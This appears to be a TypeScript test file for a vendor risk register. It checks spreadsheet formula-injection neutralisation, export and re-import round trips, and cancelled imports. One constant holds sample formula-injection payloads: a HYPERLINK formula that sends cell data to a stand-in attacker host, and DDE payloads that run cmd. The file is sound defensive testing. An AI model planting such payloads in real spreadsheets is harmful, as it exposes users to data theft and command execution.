import { createHash } from 'node:crypto';
import path from 'node:path';
import Papa from 'papaparse';
import readExcelFile from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import type { ExportedFile, ImportEntity, ImportReport, JobStatus, PortfolioScore } from '../../db/contract';
import { createRegisterService, type RegisterService } from '../../db/service';
import { neutralise, restoreNeutralised } from '../../db/io/values';
import { importFile, job, ok, serviceWithRegister, tempDir, vendor } from './helpers';

const INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0'];

async function exported(service: RegisterService, table: string, format: 'csv' | 'xlsx'): Promise<{ file: ExportedFile; bytes: Buffer }> {
  const file = await job<ExportedFile>(service, 'exports.table', { table, format });
  return { file, bytes: Buffer.from(file.base64, 'base64') };
}

describe('formula injection', () => {
  it('prefixes text that starts with = + - @ tab or CR, and the import takes exactly that prefix off again', () => {
    for (const text of [...INJECTIONS, '\tlead', '\rlead', "'=already"]) {
      expect(neutralise(text).startsWith("'")).toBe(true);
      expect(restoreNeutralised(neutralise(text))).toBe(text);
    }
    for (const text of ['Plain', "O'Brien", '100', 'a=b']) expect(neutralise(text)).toBe(text);
  });

  it('neutralises vendor names in CSV and XLSX exports, keeps numbers numeric, and restores the text on re-import', async () => {
    const { service } = serviceWithRegister();
    for (const [i, name] of INJECTIONS.entries()) ok(service, 'vendors.create', { vendor: vendor({ name, notes: `=1+${i}`, annualSpend: 1000 * (i + 1), spendCurrency: 'AUD' }) });

    const csv = await exported(service, 'vendors', 'csv');
    expect(csv.bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = Papa.parse<string[]>(csv.bytes.toString('utf8').slice(1)).data;
    const nameColumn = rows[0]!.indexOf('Vendor name');
    const spendColumn = rows[0]!.indexOf('Annual spend');
    const names = rows.slice(1).filter((r) => r.length > 1).map((r) => r[nameColumn]!);
    expect(names.every((n) => n.startsWith("'"))).toBe(true);
    expect(csv.bytes.toString('utf8')).toMatch(/,1000,/);
    expect(rows.slice(1).filter((r) => r.length > 1).map((r) => r[spendColumn])).toEqual(expect.arrayContaining(['1000', '2000', '3000', '4000']));

    const xlsx = await exported(service, 'vendors', 'xlsx');
    const [sheet] = (await readExcelFile(xlsx.bytes)) as { data: (string | number | null)[][] }[];
    const header = sheet!.data[0]!;
    const body = sheet!.data.slice(1);
    expect(body.map((r) => r[header.indexOf('Vendor name')]).every((n) => typeof n === 'string' && n.startsWith("'"))).toBe(true);
    expect(body.map((r) => r[header.indexOf('Annual spend')]).sort()).toEqual([1000, 2000, 3000, 4000]);
    expect(body.every((r) => String(r[header.indexOf('Notes')]).startsWith("'="))).toBe(true);

    for (const [format, bytes] of [['csv', csv.bytes], ['xlsx', xlsx.bytes]] as const) {
      const target = serviceWithRegister(`Reimport ${format}`).service;
      const { report } = await importFile(target, `vendors.${format}`, bytes, { entity: 'vendors' });
      expect(report).toMatchObject({ committed: true, created: INJECTIONS.length });
      const back = ok<{ rows: { name: string }[] }>(target, 'vendors.list', { limit: 10 }).rows.map((r) => r.name).sort();
      expect(back).toEqual([...INJECTIONS].sort());
    }
  });
});

describe('export → import into an empty register', () => {
  const ORDER: ImportEntity[] = ['vendors', 'holdings', 'services', 'incidents'];

  /** Per table, the rows as names and values (no ids, no timestamps), sorted and hashed. */
  function contentHashes(service: RegisterService): Record<string, string> {
    const hashes: Record<string, string> = {};
    for (const table of ['vendors', 'holdings', 'services', 'incidents'] as const) {
      const rows = readTable(service, table);
      hashes[table] = createHash('sha256').update(JSON.stringify(rows)).digest('hex');
    }
    return hashes;
  }

  function readTable(service: RegisterService, table: string): string[] {
    const out: string[] = [];
    if (table === 'vendors') {
      for (const row of ok<{ rows: { id: number }[] }>(service, 'vendors.list', { limit: 1000 }).rows) {
        const v = ok<Record<string, unknown>>(service, 'vendors.get', { id: row.id });
        const deps = ok<{ dependsOn: { supplierName: string }[] }>(service, 'dependencies.forVendor', { vendorId: row.id }).dependsOn.map((d) => d.supplierName);
        const { id: _id, version: _version, createdAt: _c, updatedAt: _u, ultimateParentId: _p, groupMembers: _g, ...fields } = v;
        out.push(JSON.stringify({ ...fields, deps }));
      }
    }
    if (table === 'holdings') {
      for (const row of ok<{ rows: { id: number; name: string }[] }>(service, 'vendors.list', { limit: 1000 }).rows) {
        for (const h of ok<{ rows: Record<string, unknown>[] }>(service, 'holdings.list', { vendorId: row.id }).rows) {
          const { id: _id, vendorId: _v, categoryId: _c, ...fields } = h;
          out.push(JSON.stringify({ vendor: row.name, ...fields }));
        }
      }
    }
    if (table === 'services') {
      for (const s of ok<Record<string, unknown>[]>(service, 'services.list', {})) {
        const { id: _id, vendors, ...fields } = s as { id: number; vendors: { vendorName: string; reliance: string }[] };
        out.push(JSON.stringify({ ...fields, vendors: vendors.map((v) => `${v.vendorName}:${v.reliance}`).sort() }));
      }
    }
    if (table === 'incidents') {
      for (const i of ok<Record<string, unknown>[]>(service, 'incidents.list', {})) {
        const { id: _id, vendorId: _v, categoryIds: _c, ...fields } = i;
        out.push(JSON.stringify(fields));
      }
    }
    return out.sort();
  }

  for (const format of ['csv', 'xlsx'] as const) {
    it(`gives the sample register's content back, table by table (${format.toUpperCase()})`, async () => {
      const dir = tempDir();
      const source = createRegisterService({ actor: 'tester' });
      source.open(path.join(dir, 'Sample.vrr'), { create: true, sample: true });
      const target = createRegisterService({ actor: 'tester' });
      target.open(path.join(dir, 'Empty.vrr'), { create: true });
      try {
        for (const entity of ORDER) {
          const { bytes, file } = await exported(source, entity, format);
          expect(file.fileName).toMatch(new RegExp(`\\.${format}$`));
          const { report } = await importFile(target, file.fileName, bytes, { entity });
          expect(report.committed, JSON.stringify(report.issues.slice(0, 3))).toBe(true);
          expect(report.withErrors).toBe(0);
        }
        expect(contentHashes(target)).toEqual(contentHashes(source));
        // The same content, read the other way round: every holding and incident is there.
        expect(readTable(target, 'holdings').length).toBeGreaterThan(40);
        expect(readTable(target, 'incidents').length).toBe(4);
      } finally {
        source.close();
        target.close();
      }
    });
  }
});

describe('committing', () => {
  it('writes nothing when cancelled part-way, and nothing when a row has errors', async () => {
    const { service } = serviceWithRegister();
    const lines = ['Vendor,Annual spend,Currency', ...Array.from({ length: 12_000 }, (_, i) => `Vendor ${i},${i},AUD`)];
    const csv = lines.join('\n');
    const file = await job<{ fileId: string; suggestedMappings: Record<string, Record<string, number | null>> }>(service, 'imports.read', { fileName: 'big.csv', base64: Buffer.from(csv).toString('base64') });
    const { jobId } = ok<{ jobId: string }>(service, 'imports.commit', { fileId: file.fileId, options: { entity: 'vendors', mapping: file.suggestedMappings.vendors } });
    let status: JobStatus;
    let cancelled = false;
    do {
      await new Promise((resolve) => setImmediate(resolve));
      status = ok<JobStatus>(service, 'jobs.status', { jobId });
      if (!cancelled && status.phase === 'Writing' && status.done >= 4_000) {
        // Other calls are refused while the import holds the register.
        expect(service.call('vendors.list', {})).toMatchObject({ ok: false, error: { code: 'CONFLICT' } });
        ok(service, 'jobs.cancel', { jobId });
        cancelled = true;
      }
    } while (status.state === 'running');
    expect(status.state).toBe('cancelled');
    expect(ok<{ total: number }>(service, 'vendors.list', {}).total).toBe(0);

    const broken = `${csv}\nBad vendor,-1,AUD`;
    const { report } = await importFile(service, 'broken.csv', broken, { entity: 'vendors' });
    expect(report).toMatchObject({ committed: false, created: 0, withErrors: 1, skipped: 12_001 });
    expect(ok<{ total: number }>(service, 'vendors.list', {}).total).toBe(0);
    const done: ImportReport = (await importFile(service, 'broken.csv', broken, { entity: 'vendors', skipErrors: true })).report;
    expect(done).toMatchObject({ committed: true, created: 12_000, skipped: 1 });
  });
});

describe('exporting the scores', () => {
  it('writes every basis of the concentration and every counted vendor score with the engine’s figures', async () => {
    const dir = tempDir();
    const service = createRegisterService({ actor: 'tester', backupDir: path.join(dir, 'Backups') });
    service.open(path.join(dir, 'Sample.vrr'), { create: true, sample: true });
    try {
      const portfolio = ok<PortfolioScore>(service, 'scoring.portfolio', {});
      const concentration = Papa.parse<string[]>((await exported(service, 'concentration', 'csv')).bytes.toString('utf8').slice(1), { skipEmptyLines: true }).data;
      expect(concentration[0]!.slice(0, 4)).toEqual(['Basis', 'Total', 'Holders', 'HHI']);
      expect(concentration.slice(1).map((r) => [r[0], Number(r[3])])).toEqual([
        ['Weighted exposure', Math.round(portfolio.bases.exposure.hhi)],
        ['People (per vendor)', Math.round(portfolio.bases.people.hhi)],
        ['Annual spend', Math.round(portfolio.bases.spend.hhi)],
        ['Critical services', Math.round(portfolio.bases.critical.hhi)],
      ]);
      const [sheet] = (await readExcelFile((await exported(service, 'scores', 'xlsx')).bytes)) as { data: (string | number)[][] }[];
      const scores = sheet!.data.slice(1);
      expect(scores.length).toBeGreaterThanOrEqual(portfolio.riskMatrix.length);
      const top = portfolio.riskMatrix[0]!;
      expect(scores.find((r) => r[0] === top.name)?.[1]).toBeCloseTo(top.score, 1);
    } finally {
      service.close();
    }
  });
});
